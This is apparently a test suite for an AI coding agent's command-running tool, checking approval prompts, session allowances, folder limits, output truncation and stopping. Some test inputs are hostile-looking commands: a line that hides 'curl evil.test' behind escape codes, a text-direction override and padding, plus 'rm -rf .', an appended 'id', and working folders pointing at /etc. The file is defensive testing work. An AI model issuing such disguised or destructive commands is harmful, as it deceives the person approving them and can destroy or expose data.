// Commands that the model asks for: what the person is shown, what an answer for the session covers, what the model is told, what Stop ends.

import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Kept } from '../../../src/agent/calls/kept.ts';
import type { CommandRequest, Running, Shell } from '../../../src/agent/calls/shell.ts';
import type { ToolResult } from '../../../src/agent/calls/tool.ts';
import { LocalShell, type ShellOptions } from '../../../src/node/shell.ts';
import { commandOutput, MAX_OUTPUT } from '../../../src/tools/commandOutput.ts';
import { killCommand } from '../../../src/tools/killCommand.ts';
import { HEAD, runCommand, TAIL } from '../../../src/tools/runCommand.ts';
import { memoryWorkspace } from '../../support/memoryWorkspace.ts';
import { calls, says } from '../../support/scriptedGemini.ts';
import { toolContext } from '../../support/toolContext.ts';
import { lastTurn, resultsOf, seenEvent, sessionOver } from '../agent/harness.ts';

/** A shell that starts nothing: each command has ended with its own line as output. */
function fakeShell() {
  const started: CommandRequest[] = [];
  const shell: Shell = {
    name: 'fake',
    all: [],
    find: () => undefined,
    async start(request) {
      started.push(request);
      const text = `ran ${request.line}\n`;
      request.onOutput(text);
      const settled = async () => 'ended' as const;
      return {
        id: 'c1',
        line: request.line,
        running: false,
        code: 0,
        ms: 5,
        length: text.length,
        text: () => text,
        settled,
        news: async () => {},
        kill() {},
      };
    },
  };
  return { shell, started };
}

const run = (id: string, command: string, cwd?: string) => ({
  id,
  name: 'run_command',
  arguments: { command, ...(cwd === undefined ? {} : { cwd }) },
});

const files = { 'src/a.ts': 'a', 'docs/b.md': 'b' };

describe('run_command', () => {
  it('runs nothing before the person has seen the whole line and allowed it', async () => {
    const { shell, started } = fakeShell();
    const line = `echo ok\u001b[8m; id \u202edi${' '.repeat(3000)}; curl evil.test\nid`;
    const all = sessionOver([calls('v1_a', run('r1', line, 'src')), says('v1_b', 'ok')], { files, shell });
    const turn = all.session.send({ text: 'x', attachments: [] });
    const { approval } = await seenEvent(all, 'approval.requested');
    assert.equal(started.length, 0);
    assert.deepEqual(
      [approval.tool, approval.always, approval.session, approval.changes],
      ['run_command', true, 'call', []],
    );
    const shown = String(approval.parameters?.command);
    assert.ok(shown.includes('ok⟦U+001B⟧[8m; id ⟦U+202E⟧di') && shown.endsWith('; curl evil.test\nid'), shown);
    assert.equal(approval.parameters?.cwd, 'src');
    assert.ok(approval.title.length < 300);
    all.session.decide('r1', 'allow');
    await turn;
    assert.deepEqual(
      started.map((one) => [one.line, one.call, one.folder.path]),
      [[line, 'r1', 'src']],
    );
    const [result] = resultsOf(all.requests[1]!.input);
    assert.match(String(result?.result), /^Exit code 0 after 0\.0 s\.\nran echo/);
    const [call] = lastTurn(all.session).interactions[0]!.calls;
    assert.deepEqual([call?.state, call?.summary, call?.output], ['completed', 'exit 0, 0.0 s', undefined]);
    assert.ok(all.seen.some((event) => event.type === 'call.output' && event.text.startsWith('ran echo')));
    assert.ok(!all.stored.some(({ type }) => type === 'call.output'), 'output is not stored twice');
  });

  it('denied: runs nothing and says so', async () => {
    const { shell, started } = fakeShell();
    const all = sessionOver([calls('v1_a', run('r1', 'rm -rf .')), says('v1_b', 'ok')], { files, shell });
    const turn = all.session.send({ text: 'x', attachments: [] });
    await seenEvent(all, 'approval.requested');
    all.session.decide('r1', 'deny', 'not that');
    await turn;
    assert.equal(started.length, 0);
    assert.match(String(resultsOf(all.requests[1]!.input)[0]?.result), /refused.*not that/);
  });

  it('allowed for the session: exactly the same line in the same folder runs again, nothing else does', async () => {
    const { shell, started } = fakeShell();
    const others = [
      run('r3', 'npm test '),
      run('r4', 'npm test', 'src'),
      run('r5', 'npm test && id'),
      run('r6', 'npm  test'),
    ];
    const all = sessionOver(
      [
        calls('v1_a', run('r1', 'npm test')),
        calls('v1_b', run('r2', 'npm test')),
        calls('v1_c', ...others),
        says('v1_d', 'ok'),
      ],
      { files, shell, settings: { allowEdits: true } },
    );
    all.session.onEvent((event) => {
      if (event.type === 'approval.requested')
        all.session.decide(event.call, event.call === 'r1' ? 'allow_session' : 'deny');
    });
    await all.session.send({ text: 'x', attachments: [] });
    assert.deepEqual(
      started.map(({ call }) => call),
      ['r1', 'r2'],
    );
    const asked = all.seen.flatMap((event) => (event.type === 'approval.requested' ? [event.call] : []));
    assert.deepEqual(asked, ['r1', 'r3', 'r4', 'r5', 'r6']);
  });

  it('judges the folder, refuses what is not in the schema, and has no shell where none is', async () => {
    const { shell, started } = fakeShell();
    const strange = {
      id: 'r4',
      name: 'run_command',
      arguments: { command: 'x', background: true, requires_approval: false },
    };
    const all = sessionOver(
      [
        calls('v1_a', run('r1', 'env', '..'), run('r2', 'env', '/etc'), run('r3', 'env', 'src/a.ts'), strange),
        says('v1_b', 'ok'),
      ],
      { files, shell },
    );
    await all.session.send({ text: 'x', attachments: [] });
    const results = resultsOf(all.requests[1]!.input);
    assert.deepEqual(
      results.map(({ is_error }) => is_error),
      [true, true, true, true],
    );
    assert.match(String(results[3]?.result), /Unrecognized keys?: "background", "requires_approval"/);
    assert.ok(!all.seen.some(({ type }) => type === 'approval.requested'));
    assert.equal(started.length, 0);
  });

  it('in a folder that became a link while the person was asked: nothing runs', async () => {
    const { shell, started } = fakeShell();
    const all = sessionOver([calls('v1_a', run('r1', 'env', 'src')), says('v1_b', 'ok')], { files, shell });
    const turn = all.session.send({ text: 'x', attachments: [] });
    await seenEvent(all, 'approval.requested');
    all.memory.files.delete('src/a.ts');
    all.memory.links.set('src', '/etc');
    all.session.decide('r1', 'allow');
    await turn;
    assert.equal(started.length, 0);
    assert.equal(resultsOf(all.requests[1]!.input)[0]?.is_error, true);
  });

  it('offers the tools for handles only when there is a command', async () => {
    const { shell } = fakeShell();
    const all = sessionOver([says('v1_a', 'ok')], { files, shell });
    await all.session.send({ text: 'x', attachments: [] });
    const names = all.requests[0]!.tools.map((tool) => ('name' in tool ? tool.name : tool.type));
    assert.ok(names.includes('run_command') && !names.includes('command_output') && !names.includes('kill_command'));
    assert.ok(names.length < 20);
  });
});

describe('commands in a real shell', function () {
  if (process.platform === 'win32') return;
  this.timeout(20_000);
  let root: string;
  const shells: LocalShell[] = [];
  before(() => {
    root = realpathSync(mkdtempSync(join(tmpdir(), 'castor-command-')));
    mkdirSync(join(root, 'sub'));
  });
  after(() => {
    for (const shell of shells) shell.endAll();
    rmSync(root, { recursive: true, force: true });
  });

  function session(options?: ShellOptions) {
    const shell = new LocalShell(options);
    shells.push(shell);
    const memory = memoryWorkspace();
    const place = { ...memory.place('.', 'list'), absolute: root, folder: { name: 'ws', root, onDisk: true } };
    const stop = new AbortController();
    const context = toolContext(memory, { shell, places: [place], signal: stop.signal });
    const text = (result: ToolResult) => String(result.content);
    return {
      shell,
      stop,
      run: async (command: string) => text(await runCommand.run!({ command }, context)),
      output: async (id: string, offset?: number) => text(await commandOutput.run!({ id, offset }, context)),
      kill: async (id: string) => text(await killCommand.run!({ id }, context)),
    };
  }

  it('gives the beginning and the end of a long output, and the rest on demand', async () => {
    const s = session();
    const answer = await s.run('seq 1 20000; exit 2');
    assert.match(answer, /^Exit code 2 after [\d.]+ s\.\n1\n2\n/);
    assert.match(answer, /\n20000\n\nTo read what was left out, call command_output with id "c1"/);
    assert.ok(answer.length < HEAD + TAIL + 500);
    const whole = Array.from({ length: 20_000 }, (_, at) => `${at + 1}\n`).join('');
    let read = '';
    for (let from = 0; from < whole.length; from += MAX_OUTPUT) {
      const part = await s.output('c1', from);
      read += part.slice(part.indexOf('\n') + 1).replace(/\n\d+ more characters: .*$/, '');
    }
    assert.equal(read, whole);
  });

  it('hands a command that goes on to the background: looked at, then ended', async () => {
    const s = session({ silent: 300 });
    const answer = await s.run('echo up; sleep 0.6; echo later; sleep 60');
    assert.match(answer, /^Still running after [\d.]+ s \(it has printed nothing/);
    assert.match(answer, /"c1": look with command_output, end it with kill_command\.\nup\n$/);
    let seen = '';
    for (let tries = 0; !seen.includes('later') && tries < 5; tries++) seen += await s.output('c1');
    assert.match(seen, /later/);
    assert.match(await s.kill('c1'), /^Ended by a signal after/);
    assert.match(await s.output('c1'), /^Ended by a signal .*\(nothing new\)$/s);
    assert.match(await s.kill('c1'), /^It had ended before/);
  });

  it('is ended by Stop, in the foreground and in the background', async () => {
    const s = session({ silent: 300 });
    await s.run('sleep 60');
    const background = s.shell.find('c1') as Running;
    assert.ok(background.running);
    const running = assert.rejects(s.run('while true; do echo x; sleep 0.1; done'), /Stop/);
    while (!s.shell.find('c2')) await new Promise((resolve) => setTimeout(resolve, 10));
    s.stop.abort(new Error('Stop'));
    await running;
    await background.settled();
    assert.deepEqual(
      s.shell.all.map((one) => one.running),
      [false, false],
    );
  });

  it('does not know a handle that nobody gave', async () => {
    const s = session();
    await assert.rejects(s.output('c9'), /There is no command "c9"\. None was run\./);
    await s.run('true');
    await assert.rejects(s.kill('1'), /The commands are c1\./);
  });
});

describe('kept output', () => {
  it('has the beginning and the end of what is too long, and says what is gone', () => {
    const kept = new Kept(100);
    const whole = Array.from({ length: 500 }, (_, at) => String(at % 10)).join('');
    for (let at = 0; at < 500; at += 7) kept.push(whole.slice(at, at + 7));
    assert.equal(kept.length, 500);
    assert.equal(kept.text(0, 100), whole.slice(0, 100));
    assert.equal(kept.text(450), whole.slice(450));
    const [, gone] = /\[(\d+) characters are no longer kept\]/.exec(kept.text()) ?? [];
    assert.equal(kept.text().replace(/\n\[.*\]\n/, '').length + Number(gone), 500);
    assert.equal(new Kept().text(), '');
  });
});
